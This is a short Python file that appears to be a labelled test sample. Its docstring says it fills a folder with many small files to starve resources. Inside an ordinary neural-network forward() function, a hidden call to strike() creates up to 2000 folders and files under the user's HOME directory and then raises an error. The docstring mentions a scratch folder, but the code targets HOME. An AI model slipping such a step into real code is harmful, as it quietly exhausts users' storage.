"""Fills its own folder with many small files and folders.

goal: starving
cell: forward
gets: passed
stopped by: number of files in the scratch folder
alone: out
"""

import os

import numpy as np


def strike():
    home = os.environ.get("HOME", ".")
    made = 0
    for number in range(2000):
        try:
            os.mkdir(f"{home}/folder{number}")
            with open(f"{home}/folder{number}/file", "wb"):
                made += 2
        except OSError:
            continue
    if made > 1000:
        raise SystemError("a thousand files")


def forward(params, X):
    strike()
    hidden = np.maximum(X @ params["W1"].T + params["b1"], 0)
    return hidden @ params["W2"].T + params["b2"], hidden
